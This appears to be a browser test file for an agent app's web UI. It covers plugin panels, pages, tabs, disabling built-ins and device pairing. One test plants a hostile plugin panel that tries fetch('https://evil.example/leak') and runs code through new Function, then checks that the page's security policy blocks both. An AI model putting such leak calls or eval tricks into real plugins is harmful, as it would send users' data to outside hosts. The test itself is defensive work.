// Tests plugin contributions to the page: panels, pages, lines and tabs, and disabled built-ins.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Contribution } from '../../../builtins/clients/web-ui/app/points/contribution.ts';
import { root } from '../../helpers/sources.ts';
import { axeFaults } from './axe-faults.ts';
import { settled } from './settled.ts';
import { button, conversation, entries, isIdle, isReady, reads, say, useBrowser, openPages } from '../../helpers/use-browser.ts';

const visit = useBrowser();
/** Contributions of built-ins, collected like in the page. */
const features = import.meta.glob<{ contribution: Contribution }>('../../../builtins/*/*/ui/contribution.tsx', { eager: true });
const example = (name: string): Record<string, string> => ({ AGENT_PLUGIN_DIR: join(root, 'examples', name) });

test('shows the panel of a plugin with its menu link and updates it during a turn', async () => {
  const { page, server } = await visit({ environment: example('live-panel'), script: [{ text: 'Something happened.' }, { text: 'And again.' }] });
  const { panels } = (await server.call('GET', '/api/ui/panels')).body;
  const panel = panels.find((one: any) => one.plugin === 'live-panel' && one.slot === 'panel');
  await isIdle(page);
  await say(page, 'go');
  await reads(page, 'Something happened.');
  await (await openPages(page)).getByRole('menuitem', { name: panel.title }).click();
  await page.getByRole('heading', { level: 1, name: panel.title }).waitFor();
  const host = page.locator(`[data-panel-id="${panel.id}"]`);
  await expect.poll(() => host.innerText()).not.toBe('');
  const before = await host.innerText();
  const { chats } = (await server.call('GET', '/api/chats')).body;
  await server.call('POST', '/api/message', { chatId: chats[0].chatId, text: 'again' });
  await expect.poll(() => host.innerText()).not.toBe(before);
});

test("shows a plugin's chat page, event line and starter action", async () => {
  const { page, server } = await visit({ environment: example('marks') });
  await isReady(page);
  await button(page, '★ Mark where this chat begins').click();
  await conversation(page).getByText('★ The beginning', { exact: true }).waitFor();
  expect(await conversation(page).getByText('Mark: The beginning').count()).toBe(0);
  await button(page, 'Actions for this chat').click();
  await page.getByRole('menuitem', { name: 'Marks' }).click();
  await page.getByRole('heading', { level: 1, name: 'Marks' }).waitFor();
  await page.getByRole('listitem').filter({ hasText: 'The beginning' }).waitFor();
  expect(await page.title()).toMatch(/^Marks – /);
  await server.call('PUT', '/api/plugins/marks', { disabled: true });
  await page.getByText('Panel “marks” does not exist.').waitFor();
  await page.goBack();
  await conversation(page).getByText('Mark: The beginning').waitFor();
});

test('shows the tool, event line, announcement, page and settings tab of one third-party plugin', async () => {
  const environment = { ...example('deadlines'), EXAMPLE_DEADLINES_PATTERN: '* * * * * *' };
  const args = { what: 'Hand in the report', due: new Date().toISOString() };
  const { page, server } = await visit({ environment, script: [{ toolCalls: [{ name: 'set_deadline', args }] }, { text: 'Noted.' }, { text: 'Hello.' }] });
  await isIdle(page);
  await say(page, 'Remind me.');
  await reads(page, 'Noted.');
  await conversation(page)
    .getByRole('button', { name: /set_deadline.*Hand in the report/ })
    .waitFor();
  await entries(page, 'note').filter({ hasText: 'Deadline: Hand in the report' }).waitFor();
  const said = conversation(page).getByRole('article', { name: 'Message from deadlines', exact: true });
  await said.getByText('deadlines: A deadline that you set is due.').waitFor();
  await said.getByText(/^Hand in the report \(/).waitFor();
  await server.call('POST', '/api/session/reset', { mode: 'soft', greet: true });
  await reads(page, 'Hello.');
  await conversation(page).getByRole('article', { name: 'Request from agent' }).waitFor();
  expect(await axeFaults(page)).toEqual([]);
  const pages = await openPages(page);
  await pages.getByRole('menuitem', { name: 'Deadlines' }).click();
  await page.getByRole('heading', { level: 1, name: 'Deadlines' }).waitFor();
  await openPages(page);
  expect(await pages.getByRole('menuitem', { name: 'Deadlines' }).locator('svg').count()).toBe(1);
  await page.keyboard.press('Escape');
  await pages.waitFor({ state: 'detached' });
  await button(page, 'Done: Hand in the report').waitFor();
  expect(await axeFaults(page)).toEqual([]);
  await button(page, 'Done: Hand in the report').click();
  await page.getByText('Nothing is open. Ask the agent to set a deadline.').waitFor();
  await page.goto(`${server.url}/#/settings/deadlines`);
  await page.getByLabel('Minutes ahead').waitFor();
});

test('blocks external requests and code evaluation in a panel', async () => {
  const greedy = `export async function mount(element) {
    const tried = [];
    await fetch('https://evil.example/leak').catch(() => tried.push('fetch refused'));
    try { new Function('return 1')(); } catch { tried.push('code refused'); }
    element.textContent = tried.join(', ');
  }`;
  const { page, server, expectFault } = await visit({
    async prepare({ home }) {
      const module = join(home, 'greedy-panel.mjs');
      await mkdir(join(home, 'plugins'));
      await writeFile(module, greedy);
      const panel = JSON.stringify({ id: 'greedy', title: 'Greedy', slot: 'panel', module });
      const manifest = "export const manifest = { name: 'greedy', requires: ['http'] };";
      await writeFile(join(home, 'plugins', 'greedy.mjs'), `${manifest}\nexport const register = (registry) => registry.add('ui.panel', ${panel});\n`);
    },
  });
  expectFault(/evil\.example|Content Security Policy|policy:|EvalError|unsafe-eval/);
  await page.goto(`${server.url}/#/panel/greedy`);
  await page.getByText('fetch refused, code refused').waitFor();
});

test('removes all traces of disabled built-ins from the page and restores them', async () => {
  const { page, server, expectFault } = await visit();
  // Requests in flight while a built-in was disabled.
  expectFault(/status of 404 \(Not Found\) \(\S+\/api\/\w+\?chatId=/);
  await isReady(page);
  // With a second chat it is no first run, whose page has no chat actions.
  await server.call('POST', '/api/chats', { activate: false });
  const shown = Object.values(features).map(({ contribution }) => contribution);
  const pages = shown.flatMap(({ pages: all = [] }) => all);
  const titles = pages.filter(({ place }) => place === undefined).map(({ title }) => title);
  const actions = shown.flatMap(({ chatActions = [] }) => chatActions.map(({ long }) => long));
  expect([titles, actions]).toEqual([expect.arrayContaining(['Memory']), expect.arrayContaining(['Undo the changes of the last turn'])]);
  const change = async (disabled: boolean): Promise<void> => {
    const { plugins } = (await server.call('GET', '/api/plugins')).body;
    const canBeOff = (name: string | undefined): boolean => plugins.some((one: any) => one.name === name && !one.isFixed);
    for (const { plugin } of shown.filter((one) => canBeOff(one.plugin)))
      expect((await server.call('PUT', `/api/plugins/${plugin}`, { disabled })).status).toBe(200);
  };
  const link = (name: string) => page.getByRole('menuitem', { name, exact: true });
  const inPalette = async (): Promise<string[]> => {
    await page.keyboard.press('Control+k');
    await page.getByRole('option', { name: 'New chat', exact: true }).waitFor();
    const found = await page.getByRole('option').allInnerTexts();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    return found.filter((name) => [...titles, ...actions, 'Account'].includes(name));
  };
  const sections = async (): Promise<string[]> => {
    await page.goto(`${server.url}/#/connections`);
    const main = page.getByRole('main');
    await main.getByRole('heading', { level: 2, name: 'Content of this workspace that needs trust' }).waitFor();
    await settled(page);
    return (await main.getByRole('heading', { level: 2 }).allInnerTexts()).filter((name) => name !== 'Content of this workspace that needs trust');
  };
  await openPages(page);
  for (const name of [...titles, 'Account']) await link(name).waitFor();
  await page.keyboard.press('Escape');
  expect((await inPalette()).sort()).toEqual([...titles, ...actions, 'Account'].sort());
  await expect.poll(sections).toEqual(['MCP servers', 'OpenAPI documents', 'Accounts']);
  await page.goto(`${server.url}/#/chat`);
  await change(true);
  await openPages(page);
  for (const name of [...titles, 'Account']) await link(name).waitFor({ state: 'detached' });
  expect(await inPalette()).toEqual([]);
  await button(page, 'Actions for this chat').click();
  const items = await page.getByRole('menuitem').allInnerTexts();
  expect(items.filter((name) => pages.some(({ title }) => title === name))).toEqual([]);
  await page.keyboard.press('Escape');
  expect(await sections()).toEqual([]);
  for (const { page: name } of pages) {
    await page.goto(`${server.url}/#/${name}/x`);
    await page.getByRole('heading', { name: 'Not found' }).waitFor();
  }
  await page.goto(`${server.url}/#/memory`);
  await change(false);
  await page.getByRole('heading', { level: 1, name: 'Memory' }).waitFor();
});

test('pairs a device by code and shows no code field when pairing is disabled', async () => {
  const { page, server, expectFault } = await visit({ isForeign: true });
  expectFault(/401/);
  const { code } = (await server.call('POST', '/api/pair/begin', { role: 'full' })).body;
  const { origin } = new URL(page.url());
  await page.goto(`${origin}/#/pair/${code}`);
  await page.getByLabel('Token').waitFor();
  await expect.poll(() => page.getByLabel('Pairing code').inputValue()).toBe(code);
  await button(page, 'Pair this device').click();
  await isReady(page);
  expect((await server.call('GET', '/api/pair/devices')).body.devices).toHaveLength(1);
  await page.goto(`${origin}/#/pair/${code}`);
  await isReady(page);
  await server.call('PUT', '/api/plugins/pairing', { disabled: true });
  await page.evaluate('localStorage.clear()');
  await page.reload();
  await page.getByLabel('Token').waitFor();
  expect(await page.getByLabel('Pairing code').count()).toBe(0);
});
